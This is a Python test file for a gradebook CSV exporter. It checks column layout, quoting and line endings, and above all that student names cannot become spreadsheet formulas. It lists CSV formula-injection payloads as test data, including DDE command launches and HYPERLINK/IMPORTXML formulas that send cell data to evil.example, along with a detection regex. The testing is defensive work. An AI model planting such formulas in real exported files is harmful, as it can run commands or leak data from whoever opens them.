"""CSV is what a gradebook reads: words and numbers, a line a submission, and no cell that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import re

import pytest
from graded import change, every, golden, hostile, written

from chainrule.reports import csv as report
from chainrule.result import Result, SubmissionResult

# What Excel, LibreOffice and Sheets take for a formula; blanks in front are dropped by some.
FORMULA = re.compile(r"\s*[=+\-@\uff0b\uff0d\uff1d\uff20]|[\t\r\n]")
INJECTIONS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A2,"ada")', "+1", "-1+1|cmd", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
    "'=1+1", "''=1+1", "' =1+1", '"=1+1', 'ada";=1+1;"', "ada;=1+1", "ada\t=1+1", 'ada",=1+1', "ada\r\n=1+1", "ada\n=1+1",
    "%0A-3+3", '=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")', '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!D2",
)  # fmt: skip


def rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=delimiter == ","))


def of_student(name: str) -> Result:
    return change(golden()["demo-right"], student=name)


def test_a_line_is_a_submission_and_a_column_an_exercise() -> None:
    results = list(golden().values())
    header, *lines = rows(written("csv", results))
    exercises = [exercise.name for exercise in results[0].exercises]
    said = [f"{name} {what}" for name in exercises for what in ("verdict", "mistake")]
    assert header == ["student", *exercises, "score", "bonus", "total", *said]
    for line, result in zip(lines, results, strict=True):
        assert line[0] == result.submission.path
        marks = [*(exercise.score for exercise in result.exercises), result.score, result.bonus]
        points, said = line[1 : len(exercises) + 4], line[len(exercises) + 4 :]
        assert list(map(float, points)) == [*marks, result.score + result.bonus]
        for exercise, verdict, mistake in zip(result.exercises, said[::2], said[1::2], strict=True):
            assert verdict == exercise.verdict
            assert mistake == (exercise.misconception or "")


def test_one_submission_is_a_header_and_a_line() -> None:
    header, line = rows(report.one(of_student("ada")))
    assert (header[0], line[0]) == ("student", "ada")


def test_names_are_quoted_and_numbers_are_not() -> None:
    result = change(every(golden()["demo-right"], score=0.1 + 0.2), student="ada", score=33.333333, bonus=2.0)
    header, line = report.one(result).splitlines()
    assert re.fullmatch(r'("[\w ]+",)+"[\w ]+"', header)
    words = ',"PASS",""' * len(result.exercises)
    assert line == '"ada",' + "0.3," * len(result.exercises) + f"33.333333,2,35.333333{words}"
    numbers = next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))[1 : len(result.exercises) + 4]
    assert all(isinstance(number, float) for number in numbers)


def test_points_may_be_whole_numbers() -> None:
    result = change(every(golden()["demo-right"], score=2), student="ada", score=16, bonus=0)
    _, line = report.one(result).splitlines()
    assert line.startswith('"ada",' + "2," * len(result.exercises) + '16,0,16,"PASS"')


def test_lines_end_as_rfc_4180_has_it() -> None:
    text = written("csv", list(golden().values()))
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == 1 + len(golden())


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_cell_is_a_formula_whatever_the_separator_is(text: str) -> None:
    for result in (of_student(text), change(of_student("x"), student=None, submission=SubmissionResult(text, "0"))):
        written = report.one(result)
        _, line = rows(written)
        assert line[0].endswith(text)
        assert len(line) == 3 * len(result.exercises) + 4
        for delimiter in ",;\t":
            for cells in rows(written, delimiter):
                assert not [cell for cell in cells if FORMULA.match(cell)]


@pytest.mark.parametrize("inert", [True, False])
def test_no_payload_is_more_than_a_name(inert: bool) -> None:
    results = list(hostile(inert=inert).values())
    _, *lines = rows(written("csv", results))
    for line, result in zip(lines, results, strict=True):
        assert line[0].removeprefix("'") == (result.student or "").replace("\0", "").removeprefix("'")
        assert not FORMULA.match(line[0])
        assert line[1:] == lines[0][1:]


def test_an_apostrophe_makes_no_two_students_one_and_honest_names_stay() -> None:
    names = ["=a", "'=a", "''=a", "a", "'a", "'t Hooft", "O'Brien", "Anne-Marie", "12345", "山田　太郎", "a@b.example"]
    shown = [rows(report.one(of_student(name)))[1][0] for name in names]
    assert shown == ["'=a", "''=a", "'''=a", *names[3:]]


def test_many_come_line_by_line() -> None:
    results = list(golden().values())
    told = report.many(iter(results), ())
    assert next(told).count("\r\n") == 2  # the header comes with the first
    assert [piece.count("\r\n") for piece in told] == [1] * (len(results) - 1)
    assert "".join(report.many(results, ())) == written("csv", results)


def test_a_result_of_other_exercises_keeps_the_columns() -> None:
    result = golden()["demo-right"]
    fewer = change(result, exercises=result.exercises[1:])
    _, _, line = rows(written("csv", [result, fewer]))
    assert float(line[1]) == 0
    assert list(map(float, line[2 : len(result.exercises) + 1])) == [exercise.score for exercise in fewer.exercises]
